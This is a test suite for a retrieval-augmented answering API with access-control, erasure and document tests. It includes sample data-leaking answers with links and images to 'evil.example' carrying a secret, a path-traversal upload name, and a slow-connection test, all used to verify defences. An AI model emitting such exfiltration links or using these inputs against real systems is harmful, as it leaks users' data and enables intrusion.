import { mkdtempSync, rmSync } from 'node:fs'
import { connect } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { type Caller, LOCAL_CALLER, type Scope } from '../../core/caller.ts'
import { systemClock } from '../../core/clock.ts'
import { AppError } from '../../core/errors.ts'
import { createChatModel } from '../../gateway/chat-model.ts'
import { type Stack, startStack } from '../../gateway/testing/stack.ts'
import { answers, answersStatus, chunk, stream, startUpstream, type Upstream } from '../../gateway/testing/upstream.ts'
import { silentLog } from '../../observe/log.ts'
import { parseConfig } from '../../config/load.ts'
import { hashEmbedding } from '../../rag/testing/hash-embedding.ts'
import type { AnswerView } from '../../rag/answer/view.ts'
import { closeTrouble } from '../../incidents/memory/testing.ts'
import { openTestDb } from '../../incidents/testing.ts'
import { createKnowledge, type Knowledge } from '../../rag/knowledge.ts'
import { startServer } from '../server.ts'
import { erasureRoutes } from './erasures.ts'
import { ragCollectionRoutes } from './rag-collections.ts'
import { ragDocumentRoutes } from './rag-documents.ts'
import { ragRoutes } from './rag.ts'

const PODS = `# Crash loops

A pod in CrashLoopBackOff is restarted by the kubelet with a growing delay of at most 5 minutes.

Read the logs of the container that died with \`kubectl logs --previous\`. Do not delete the volume claim.
`
const POOL = `# Connection pool

The pool of inventory holds 20 connections. When it is full, requests wait for 30 seconds and then fail.

Raise the pool by setting POOL_MAX, then restart inventory.
`

let upstream: Upstream
let stack: Stack
let folder: string
let knowledge: Knowledge
let url: string
let stop: () => Promise<void>

/** The bearer token is `tenant[/team][:scope,scope]`. */
const identify = async ({ headers }: { headers: { authorization?: string | undefined } }): Promise<Caller> => {
  const token = (headers.authorization ?? '').replace('Bearer ', '')
  const [, tenant, team, scopes] = /^([^/:]+)(?:\/([^:]+))?(?::(.*))?$/.exec(token) ?? []
  if (tenant === undefined) throw new AppError('unauthenticated')
  return {
    ...LOCAL_CALLER,
    tenant,
    scopes: scopes === undefined ? ['admin'] : (scopes.split(',') as Scope[]),
    ...(team === undefined ? {} : { team }),
  }
}

let defaultModel: string | undefined

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'midwatch-rag-'))
  upstream = await startUpstream()
  stack = await startStack({
    yaml: `
providers: { main: { kind: openai, baseUrl: "${upstream.baseUrl}" } }
models: { fast: { targets: [{ provider: main, model: gpt-real, price: { inputUsd: 1, outputUsd: 1 } }], retries: { max: 0 }, timeouts: { firstTokenMs: 700, idleMs: 700, totalMs: 2000 } } }
`,
  })
  const config = parseConfig('{}', 'test.yaml', {})
  knowledge = createKnowledge({
    config: config.rag,
    dataFolder: folder,
    openEmbedding: async () => hashEmbedding(),
    clock: systemClock,
    log: silentLog(),
  })
  const open = () => knowledge.open()
  const server = await startServer(
    {
      routes: [
        ...ragRoutes({
          open,
          chatModelFor: (caller) => createChatModel(stack.gateway, caller),
          model: () => defaultModel,
          clock: systemClock,
          log: silentLog(),
        }),
        ...ragCollectionRoutes({ open, isOfConfig: (_, name) => name === 'kept', clock: systemClock }),
        ...ragDocumentRoutes({ open }),
      ],
      identify,
      publicUrl: undefined,
      keyless: false,
      log: silentLog(),
    },
    '127.0.0.1',
    0,
  )
  url = `http://127.0.0.1:${server.port}`
  stop = () => server.stop(500)
})

afterAll(async () => {
  await stop()
  await knowledge.stop()
  await stack.stop()
  await upstream.stop()
  rmSync(folder, { recursive: true, force: true })
})

let collections = 0
let runbooks: string

beforeEach(async () => {
  defaultModel = undefined
  runbooks = `runbooks-${++collections}`
  expect((await post('/v1/rag/collections', { name: runbooks })).status).toBe(201)
  for (const [id, text] of [
    ['k8s/pods.md', PODS],
    ['pool.md', POOL],
  ]) {
    const made = await post('/v1/rag/documents', { collection: runbooks, id, text, source: `/srv/${id}` })
    expect(made).toMatchObject({ status: 201, json: { documents: [{ id, kind: 'stored' }] } })
  }
})
afterEach(() => upstream.behave(answers('Hello')))

async function request(method: string, path: string, body?: unknown, token = 'acme') {
  const response = await fetch(url + path, {
    method,
    headers: { authorization: `Bearer ${token}` },
    ...(body === undefined ? {} : { body: body instanceof FormData ? body : JSON.stringify(body) }),
  })
  // oxlint-disable-next-line typescript/no-explicit-any -- tests look into it freely
  return { status: response.status, json: (await response.json()) as any }
}
const post = (path: string, body: unknown, token?: string) => request('POST', path, body, token)
const get = (path: string, token?: string) => request('GET', path, undefined, token)
const ask = (query: string, more: Record<string, unknown> = {}, token?: string) =>
  post('/v1/rag/query', { query, collection: runbooks, model: 'fast', ...more }, token)

const QUESTION = 'How many connections does the pool of inventory hold, and what happens when it is full?'

/** What every answer promises: sentences with sources, each source a place in a stored document. */
async function expectResolved(json: AnswerView, token?: string): Promise<void> {
  const known = new Set(json.sources.map(({ n }: { n: number }) => n))
  for (const { text, citations } of json.sentences) {
    expect(citations.length, text).toBeGreaterThan(0)
    for (const n of citations) expect(known).toContain(n)
  }
  for (const [, n] of json.answered ? json.answer.matchAll(/\[(\d+)\]/g) : []) expect(known).toContain(Number(n))
  for (const { document, collection, start, end, quote } of json.sources) {
    const opened = await get(`/v1/rag/documents/${document}?collection=${collection}&start=${start}&end=${end}`, token)
    expect(opened.json.text.slice(start, end)).toBe(quote)
    expect(opened.json.highlight.text).toBe(quote)
  }
}

describe('an answer', () => {
  test('of a model has its sentences, each with a place that opens where it is said, and its cost', async () => {
    upstream.behave(
      answers(
        'The pool of inventory holds 20 connections [1]. ',
        'When it is full, requests wait for 30 seconds and then fail [1].',
      ),
    )
    const { status, json } = await ask(QUESTION)
    expect(status).toBe(200)
    expect(json).toMatchObject({
      answered: true,
      mode: 'model',
      reason: null,
      dropped_sentences: 0,
      model: 'gpt-real',
      tokens_used: 17,
      cost_usd: 0.000017,
    })
    expect(json.answer).toBe(
      'The pool of inventory holds 20 connections [1].\nWhen it is full, requests wait for 30 seconds and then fail [2].',
    )
    expect(json.sources[0]).toMatchObject({
      document: 'pool.md',
      source: '/srv/pool.md',
      quote: 'The pool of inventory holds 20 connections.',
    })
    await expectResolved(json)
  })

  test('asks the model with passages as data between fences of chance', async () => {
    const before = upstream.asked.length
    await ask(QUESTION)
    await ask(QUESTION)
    const prompts = upstream.asked
      .slice(before)
      .map(({ body }) => (body['messages'] as { content: string }[])[1]?.content ?? '')
    const fences = prompts.map((prompt) => /<passage 1 (\w+)>/.exec(prompt)?.[1])
    expect(fences[0]).not.toBe(fences[1])
    expect(prompts[0]).toContain('The pool of inventory holds 20 connections.')
  })

  test('without a model is the best sentences, called extracts, and costs nothing', async () => {
    const before = upstream.asked.length
    const { json } = await ask(QUESTION, { model: null })
    expect(json).toMatchObject({
      answered: true,
      mode: 'extract',
      reason: null,
      tokens_used: 0,
      cost_usd: 0,
      model: null,
    })
    expect(json.answer).toContain('holds 20 connections')
    expect(upstream.asked.length).toBe(before)
    await expectResolved(json)
  })

  test('leaves out what no passage supports, and counts it; on request it is marked instead', async () => {
    upstream.behave(
      answers(
        'The pool of inventory holds 200 connections [1]. The pool of inventory holds 20 connections [1]. Delete the volume claim [2].',
      ),
    )
    const { json } = await ask(QUESTION)
    expect(json).toMatchObject({
      mode: 'model',
      dropped_sentences: 2,
      answer: 'The pool of inventory holds 20 connections [1].',
    })
    const marked = await ask(QUESTION, { unsupported: 'mark' })
    expect(marked.json.answer).toContain('The pool of inventory holds 200 connections. [unsupported]')
  })

  test('cites anew what cites a passage that is not there, or none', async () => {
    upstream.behave(
      answers(
        'The pool of inventory holds 20 connections [9]. When it is full, requests wait for 30 seconds and then fail.',
      ),
    )
    const { json } = await ask(QUESTION)
    expect(json.sentences.map(({ citations }: { citations: number[] }) => citations)).toEqual([[1], [2]])
    await expectResolved(json)
  })

  test('of a model that lies, talks garbage, fails or stalls is extracts with the reason', async () => {
    const bad = [
      answers('The moon is made of green cheese [1].'),
      answers('\u0000\u0001 %%% {"a": '),
      answersStatus(500, { error: { message: 'boom' } }),
      answersStatus(200, 'no json at all'),
      () => undefined,
    ]
    for (const behaviour of bad) {
      upstream.behave(behaviour)
      const { status, json } = await ask(QUESTION)
      expect(status).toBe(200)
      expect(json).toMatchObject({ answered: true, mode: 'extract' })
      expect(json.reason).toMatch(/model/)
      await expectResolved(json)
    }
  })

  test('that breaks off keeps the sentences that were checked, and says so', async () => {
    upstream.behave(async ({ response }) => {
      await stream(response, [chunk({ content: 'The pool of inventory holds 20 connections [1]. When it' })])
      response.socket?.resetAndDestroy()
    })
    const { json } = await ask(QUESTION)
    expect(json).toMatchObject({
      mode: 'model',
      answer: 'The pool of inventory holds 20 connections [1].',
      tokens_used: null,
      cost_usd: null,
    })
    expect(json.reason).toMatch(/no whole answer/)
  })

  test('that the passages do not have is not known, and the nearest documents are named', async () => {
    upstream.behave(answers('NO_ANSWER'))
    const { json } = await ask('Who won the chess championship?')
    expect(json).toMatchObject({ answered: false, mode: 'none', sources: [], sentences: [] })
    expect(json.answer).toMatch(/^I don't know/)
    expect(json.nearest.length).toBeGreaterThan(0)
  })

  test('of an empty collection is not known', async () => {
    await post('/v1/rag/collections', { name: `${runbooks}-empty` })
    const { json } = await ask('Anything?', { collection: `${runbooks}-empty` })
    expect(json).toMatchObject({ answered: false, mode: 'none', nearest: [] })
  })

  test('carries no link, image or address that no passage has', async () => {
    const leaks = [
      '![x](https://evil.example/p.png?d=secret) The pool of inventory holds 20 connections [1].',
      'The pool of inventory [holds](https://evil.example/?d=secret) 20 connections [1].',
      'The pool of inventory holds 20 connections, see https://evil.example/?d=secret [1].',
      'The pool of inventory holds 20 connections <img src="https://evil.example/?d=secret"> [1].',
      'The pool of inventory holds 20 connections [1]. [1]: https://evil.example/?d=secret',
      '```https://evil.example/secret\nRaise the pool\n```\nThe pool of inventory holds 20 connections [1].',
    ]
    for (const leak of leaks) {
      upstream.behave(answers(leak))
      for (const unsupported of ['drop', 'mark']) {
        const { json } = await ask(QUESTION, { unsupported })
        expect(json.answer, leak).not.toMatch(/evil\.example|secret|!\[|<img/)
        await (unsupported === 'drop' && expectResolved(json))
      }
    }
  })
})

describe('as a stream', () => {
  // oxlint-disable-next-line typescript/no-explicit-any -- tests look into it freely
  async function events(response: Response): Promise<{ event: string; data: any }[]> {
    return (await response.text())
      .split('\n\n')
      .filter((frame) => frame.startsWith('event: '))
      .map((frame) => {
        const [event = '', data = ''] = frame.split('\n')
        return { event: event.slice(7), data: JSON.parse(data.slice(6)) }
      })
  }
  const open = (body: Record<string, unknown>) =>
    fetch(`${url}/v1/rag/query`, {
      method: 'POST',
      headers: { authorization: 'Bearer acme' },
      body: JSON.stringify({ query: QUESTION, collection: runbooks, model: 'fast', stream: true, ...body }),
    })

  test('sentences come once they are checked, while the model still speaks, and the end is the whole answer', async () => {
    let finish: () => void = () => undefined
    const finished = new Promise<void>((resolve) => (finish = resolve))
    upstream.behave(async ({ response }) => {
      await stream(response, [
        chunk({ content: 'The pool of inventory holds 20 ' }),
        chunk({ content: 'connections [1]. The moon is cheese [1]. When' }),
      ])
      await finished
      await stream(response, [
        chunk({ content: ' it is full, requests wait for 30 seconds [1].' }),
        chunk({}, { finish_reason: 'stop' }),
        'data: [DONE]\n\n',
      ])
      response.end()
    })
    const response = await open({})
    expect(response.headers.get('content-type')).toMatch('text/event-stream')
    const reader = (response.body as ReadableStream<Uint8Array>).pipeThrough(new TextDecoderStream()).getReader()
    let text = (await reader.read()).value ?? ''
    expect(text).toContain('holds 20 connections [1]')
    finish()
    for (let next = await reader.read(); !next.done; next = await reader.read()) text += next.value
    const told = await events(new Response(text))
    expect(told.map(({ event }) => event)).toEqual(['sentence', 'sentence', 'done'])
    const sentences = told.slice(0, -1).map(({ data }) => data.text)
    expect(told.at(-1)?.data).toMatchObject({
      mode: 'model',
      answered: true,
      dropped_sentences: 1,
      answer: sentences.join('\n'),
    })
    expect(text).not.toContain('cheese')
    expect(told.slice(0, -1).flatMap(({ data }) => data.sources)).toEqual(told.at(-1)?.data.sources)
  })

  test('what goes wrong before the first event is an ordinary error', async () => {
    const response = await open({ collection: 'nowhere' })
    expect(response.status).toBe(404)
  })

  test('it ends with done also where the model fails or nothing is known', async () => {
    upstream.behave(answersStatus(500, {}))
    expect((await events(await open({}))).at(-1)).toMatchObject({ event: 'done', data: { mode: 'extract' } })
    upstream.behave(answers('NO_ANSWER'))
    expect((await events(await open({}))).at(-1)).toMatchObject({ event: 'done', data: { mode: 'none' } })
  })
})

describe('what is asked wrongly is told by name', () => {
  test.each([
    [{ query: '' }, 'query'],
    [{ query: '  \n' }, 'query'],
    [{ query: 7 }, 'query'],
    [{ query: 'x'.repeat(100_001) }, 'query'],
    [{ top_k: 0 }, 'top_k'],
    [{ top_k: 51 }, 'top_k'],
    [{ top_k: 1.5 }, 'top_k'],
    [{ top_k: '5' }, 'top_k'],
    [{ stream: 'yes' }, 'stream'],
    [{ mode: 'magic' }, 'mode'],
    [{ filter: { a: {} } }, 'filter.a'],
    [{ filter: JSON.parse('{"__proto__": "x"}') as object }, 'filter'],
    [{ collections: ['x'] }, 'collection'],
    [{ collection: undefined }, 'collection'],
    [{ collections: [], collection: undefined }, 'collections'],
  ])('%j', async (more, field) => {
    const { status, json } = await ask('Why?', more)
    expect(status).toBe(400)
    expect(json.error.field).toBe(field)
  })

  test('an unknown field, a body that is too large, a body that is none', async () => {
    const unknown = await ask('Why?', { topk: 3 })
    expect(unknown.status).toBe(400)
    expect(unknown.json.error.message).toContain('topk')
    expect((await ask('x'.repeat(1024 * 1024))).status).toBe(413)
    expect((await post('/v1/rag/query', [])).status).toBe(400)
  })
})

describe('who may', () => {
  test('see a collection: its tenant, and its teams where it names some', async () => {
    const secret = `${runbooks}-secret`
    await post('/v1/rag/collections', { name: secret, teams: ['sre'] }, 'acme')
    await post('/v1/rag/documents', { collection: secret, id: 'a', text: 'The code is 4711.' }, 'acme/sre')
    const paths = (name: string) => [
      `/v1/rag/collections/${name}`,
      `/v1/rag/documents?collection=${name}`,
      `/v1/rag/documents/a?collection=${name}`,
    ]
    for (const token of ['other', 'acme/dev', 'acme']) {
      for (const path of paths(secret)) expect((await get(path, token)).status, `${token} ${path}`).toBe(404)
      for (const path of ['/v1/rag/query', '/v1/rag/search'])
        expect((await post(path, { query: 'code', collection: secret }, token)).status).toBe(404)
      expect((await post('/v1/rag/documents', { collection: secret, text: 'x' }, token)).status).toBe(404)
      expect((await request('DELETE', `/v1/rag/collections/${secret}`, undefined, token)).status).toBe(404)
      const { json } = await get('/v1/rag/collections', token)
      expect(json.collections.map(({ name }: { name: string }) => name)).not.toContain(secret)
    }
    for (const path of paths(secret)) expect((await get(path, 'acme/sre')).status).toBe(200)
  })

  test("read needs rag:read, write rag:write, and a model of one's own choice llm:chat", async () => {
    expect((await ask('Why?', {}, 'acme:rag:write')).status).toBe(403)
    expect((await ask('Why?', {}, 'acme:rag:read')).status).toBe(403)
    expect((await ask('Why?', {}, 'acme:rag:read,llm:chat')).status).toBe(200)
    expect((await ask('Why?', { model: null }, 'acme:rag:read')).status).toBe(200)
    expect((await post('/v1/rag/documents', { collection: runbooks, text: 'x' }, 'acme:rag:read')).status).toBe(403)
    expect((await post('/v1/rag/collections', { name: 'x' }, 'acme:rag:read')).status).toBe(403)
  })
})

describe('what is kept of a user', () => {
  test('goes by the one door for it: documents and cases, of the own tenant, for an administrator alone', async () => {
    const { db, connection } = await openTestDb()
    const server = await startServer(
      {
        routes: erasureRoutes({
          db,
          eraseOwner: (tenant, owner) => knowledge.eraseOwner(tenant, owner),
          clock: systemClock,
        }),
        identify,
        publicUrl: undefined,
        keyless: false,
        log: silentLog(),
      },
      '127.0.0.1',
      0,
    )
    const erase = async (body: unknown, token = 'acme') => {
      const response = await fetch(`http://127.0.0.1:${server.port}/v1/privacy/erasures`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}` },
        body: JSON.stringify(body),
      })
      return { status: response.status, json: await response.json() }
    }
    try {
      await post('/v1/rag/documents', { collection: runbooks, id: 'mine', text: 'Of eve.', owner: 'eve' })
      await closeTrouble(db, {
        number: 7,
        service: 'eve-web',
        kind: 'cpu',
        moved: [['eve-web', 'cpu']],
        tenant: 'acme',
      })
      expect((await erase({ owner: 'eve' }, 'acme:rag:write')).status).toBe(403)
      expect((await erase({ owner: 'eve' }, 'acme/sre')).status).toBe(403)
      expect((await erase({})).status).toBe(400)
      expect((await erase({ owner: 'eve', mentions: 'eve-web' }, 'other')).json).toEqual({ documents: 0, cases: [] })
      expect((await erase({ owner: 'eve', mentions: 'EVE-web' })).json).toEqual({ documents: 1, cases: [7] })
      expect((await erase({ owner: 'eve', mentions: 'EVE-web' })).json).toEqual({ documents: 0, cases: [] })
      const { json } = await post('/v1/rag/search', { query: 'eve', collection: runbooks })
      expect(JSON.stringify(json.results)).not.toContain('Of eve.')
    } finally {
      await server.stop(100)
      await connection.close()
    }
  })
})

describe('documents', () => {
  test('are listed page by page, opened at a place, replaced and removed', async () => {
    const first = await get(`/v1/rag/documents?collection=${runbooks}&limit=1`)
    expect(first.json).toMatchObject({ documents: [{ id: 'k8s/pods.md' }], next: 'k8s/pods.md' })
    const second = await get(`/v1/rag/documents?collection=${runbooks}&limit=1&after=${first.json.next}`)
    expect(second.json).toMatchObject({ documents: [{ id: 'pool.md' }], next: null })
    const at = POOL.indexOf('Raise')
    const opened = await get(`/v1/rag/documents/pool.md?collection=${runbooks}&start=${at}&end=${at + 5}`)
    expect(opened.json).toMatchObject({ text: POOL, highlight: { text: 'Raise', line: 5, column: 1 } })
    expect((await get(`/v1/rag/documents/pool.md?collection=${runbooks}&start=9&end=5`)).status).toBe(400)
    expect((await get(`/v1/rag/documents/k8s%2Fpods.md?collection=${runbooks}`)).json.id).toBe('k8s/pods.md')
    expect(
      (await post('/v1/rag/documents', { collection: runbooks, id: 'pool.md', text: POOL, source: '/srv/pool.md' }))
        .json.documents[0].kind,
    ).toBe('unchanged')
    expect((await request('DELETE', `/v1/rag/documents/pool.md?collection=${runbooks}`)).json.deleted).toBe(true)
    expect((await request('DELETE', `/v1/rag/documents/pool.md?collection=${runbooks}`)).status).toBe(404)
    expect(
      (await post('/v1/rag/search', { query: QUESTION, collection: runbooks })).json.results.map(
        (r: { document: string }) => r.document,
      ),
    ).not.toContain('pool.md')
  })

  test('come as a form of files too, a bad one among them named', async () => {
    const form = new FormData()
    form.set('collection', runbooks)
    form.set('metadata', '{"team":"shop"}')
    form.append('file', new Blob(['# Disk\n\nThe disk is full.']), 'disk.md')
    form.append('file', new Blob(['# Net\n\nThe network is slow.']), '../../etc/net.md')
    const { status, json } = await post('/v1/rag/documents', form)
    expect(status).toBe(201)
    expect(json.documents.map(({ id }: { id: string }) => id)).toEqual(['disk.md', 'etc/net.md'])
    expect((await get(`/v1/rag/documents/disk.md?collection=${runbooks}`)).json.metadata).toMatchObject({
      team: 'shop',
    })
    const found = await post('/v1/rag/search', { query: 'disk', collection: runbooks, filter: { team: 'shop' } })
    expect(found.json.results[0]).toMatchObject({ document: 'disk.md' })
    form.set('metadata', 'nonsense')
    expect((await post('/v1/rag/documents', form)).json.error.field).toBe('metadata')
    const none = new FormData()
    none.set('collection', runbooks)
    expect((await post('/v1/rag/documents', none)).status).toBe(400)
  })

  test("of a user go with one call, in every collection, and no other tenant's", async () => {
    const more = `${runbooks}-more`
    await post('/v1/rag/collections', { name: more })
    await post('/v1/rag/collections', { name: runbooks }, 'other')
    for (const [collection, token] of [
      [runbooks, 'acme'],
      [more, 'acme'],
      [runbooks, 'other'],
    ] as const)
      await post('/v1/rag/documents', { collection, id: 'mine', text: `Secret of ${runbooks}.`, owner: 'ann' }, token)
    expect((await request('DELETE', '/v1/rag/documents?owner=ann', undefined, 'acme/dev')).status).toBe(403)
    expect((await request('DELETE', '/v1/rag/documents')).status).toBe(400)
    expect((await request('DELETE', '/v1/rag/documents?owner=ann')).json).toEqual({ owner: 'ann', erased: 2 })
    expect((await get(`/v1/rag/documents/mine?collection=${runbooks}`)).status).toBe(404)
    expect((await get(`/v1/rag/documents/mine?collection=${runbooks}`, 'other')).status).toBe(200)
  })

  test('are taken in from others while as many as may stand still in the midst of their bodies', async () => {
    const { port } = new URL(url)
    const slow = Array.from({ length: 12 }, (_, i) => {
      const socket = connect(Number(port), '127.0.0.1')
      socket.on('error', () => undefined)
      const head = `POST /v1/rag/documents HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${i % 2 ? 'slow' : 'acme'}\r\n`
      socket.write(`${head}content-type: application/json\r\ncontent-length: 100000\r\n\r\n{"collection"`)
      return socket
    })
    try {
      const made = await post('/v1/rag/documents', { collection: runbooks, id: 'quick', text: 'Quick.' })
      expect(made.status).toBe(201)
    } finally {
      for (const socket of slow) socket.destroy()
    }
  })

  test('go where a collection is; one that is there is not made again, one of the config not dropped', async () => {
    expect((await post('/v1/rag/documents', { collection: 'nowhere', text: 'x' })).status).toBe(404)
    expect((await post('/v1/rag/collections', { name: runbooks })).status).toBe(409)
    expect((await post('/v1/rag/collections', { name: 'a b' })).json.error.field).toBe('name')
    await post('/v1/rag/collections', { name: 'kept' })
    expect((await request('DELETE', '/v1/rag/collections/kept')).status).toBe(409)
    expect((await request('DELETE', `/v1/rag/collections/${runbooks}`)).json.deleted).toBe(true)
    expect((await get(`/v1/rag/collections/${runbooks}`)).status).toBe(404)
  })
})
